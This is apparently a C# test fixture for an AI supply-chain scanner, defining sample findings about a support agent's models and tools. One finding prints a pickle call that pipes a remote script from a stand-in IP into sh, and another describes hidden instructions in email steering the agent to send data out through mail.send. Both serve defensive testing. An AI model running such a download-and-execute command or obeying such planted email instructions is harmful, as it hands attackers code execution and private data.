using Proofmark.Core;

namespace Proofmark.Reporting.Tests.Examples;

/// <summary>Check results of a believable support agent.</summary>
internal static class ExampleResults
{
    public static readonly DateTimeOffset AsOf = new(2026, 11, 20, 9, 30, 0, TimeSpan.Zero);
    public static readonly ToolIdentity Tool = new("proofmark", "0.1.0");
    public static readonly Digest RuleSet = Digest.OfBytes("rules"u8);

    public static readonly Finding Payload = new()
    {
        RuleId = "pickle.malicious-call",
        Severity = Severity.Critical,
        Message = "Loading this file runs a shell command.",
        Why = "A pickle is a program for its loader. Whoever controls the file runs code with the rights of the process that loads it.",
        Fix = "Do not load it. Take the weights in safetensors from the producer, or convert them in an isolated process.",
        Location = new Location("models/classifier/model.pt", "archive/data.pkl", 118),
        Call = "posix.system('curl -s http://203.0.113.7/i.sh | sh')",
        References = ["AML.T0010.003", "AML.T0011.000", "CWE-502"],
        Components = ["classifier"],
    };

    public static readonly Finding RemoteCode = new()
    {
        RuleId = "model.remote-code",
        Severity = Severity.High,
        Message = "The configuration asks the loader to import modeling_support.py from the model repository.",
        Why = "Code from the model repository runs inside the application and changes whenever the repository does.",
        Fix = "Review the file, vendor it, and load with trust_remote_code=False.",
        Location = new Location("models/llm/config.json", Line: 14, Column: 5),
        References = ["CWE-829"],
        Components = ["llm"],
    };

    public static readonly Finding ToolPath = new()
    {
        RuleId = "system.untrusted-to-outward-action",
        Severity = Severity.High,
        Message = "Text from email reaches mail.send through chat, llm and tools, and nobody approves the action.",
        Why = "Instructions hidden in a message can make the agent send data out. Untrusted text, private data and an outward action lie on one path.",
        Fix = "Ask a person before mail.send, or take the privilege away from runs that have read untrusted text.",
        Location = new Location("proofmark.yaml", Line: 9),
        References = ["AML.T0051.001", "LLM01:2025"],
        Components = ["chat", "llm", "tools"],
    };

    public static readonly Finding Unpinned = new()
    {
        RuleId = "model.unpinned-source",
        Severity = Severity.Medium,
        Message = "The model is fetched by name without a revision.",
        Why = "The producer, or whoever takes over the account, can replace the weights between two runs.",
        Fix = "Name the commit: revision=\"<40 hex digits>\".",
        Location = new Location("app/agent.py", Line: 31, Column: 13),
        References = ["AML.T0010.003", "CVE-2099-0001"],
        Components = ["llm"],
    };

    public static readonly Finding Unsigned = new()
    {
        RuleId = "model.unsigned",
        Severity = Severity.Low,
        Message = "No signature accompanies the adapter weights.",
        Why = "Nothing binds the file to its producer.",
        Fix = "Ask the producer for a signature, or sign after review: proofmark sign models/adapter.",
        Location = new Location("models/adapter/adapter_model.safetensors"),
        Components = ["adapter"],
    };

    public static IReadOnlyList<CheckResult> All { get; } =
    [
        Result("scan.load-time-code", "Does loading the file run code?", "models/classifier/model.pt", Outcome.Fail, Coverage.Full(48_211, "bytes"), Payload),
        Result("scan.load-time-code", "Does loading the file run code?", "models/adapter/adapter_model.safetensors", Outcome.Pass, Coverage.Full(1_048_576, "bytes")),
        Result("scan.load-time-code", "Does loading the file run code?", "models/legacy.mar", Outcome.NotEstablished,
            new Coverage(0, 9_412, "bytes", [new UnreadPart(new Location("models/legacy.mar"), "format-not-covered", "no reader for TorchServe archives")])),
        Result("scan.load-time-code", "Does loading the file run code?", "docs/logo.png", Outcome.NotApplicable, Coverage.Full(812, "bytes")),
        OfSystem("system.model-origin", "Is every model bound to its origin?", Coverage.Full(3, "facts"), RemoteCode, Unpinned, Unsigned),
        OfSystem("system.tool-paths", "Does untrusted text reach an outward action?", Coverage.Full(6, "components"), ToolPath),
    ];

    public static CheckResult Result(string id, string title, string path, Outcome outcome, Coverage coverage, params Finding[] findings) => new()
    {
        Check = new CheckIdentity(id, 1, title),
        Subject = new Subject(SubjectKind.Artifact, path, Digest.OfBytes(global::System.Text.Encoding.UTF8.GetBytes(path))),
        Scope = path,
        Method = Rung.Scan,
        Outcome = outcome,
        ReasonCodes = outcome switch
        {
            Outcome.Fail => ["load-time-code"],
            Outcome.NotEstablished => ["format-not-covered"],
            Outcome.NotApplicable => ["inert-data"],
            _ => [],
        },
        Coverage = coverage,
        Findings = findings,
        Time = AsOf,
        Tool = Tool,
        RuleSet = RuleSet,
    };

    private static CheckResult OfSystem(string id, string title, Coverage coverage, params Finding[] findings) =>
        Result(id, title, "support-agent", Outcome.Fail, coverage, findings) with
        {
            Subject = new Subject(SubjectKind.System, "support-agent"),
            ReasonCodes = ["finding"],
        };
}
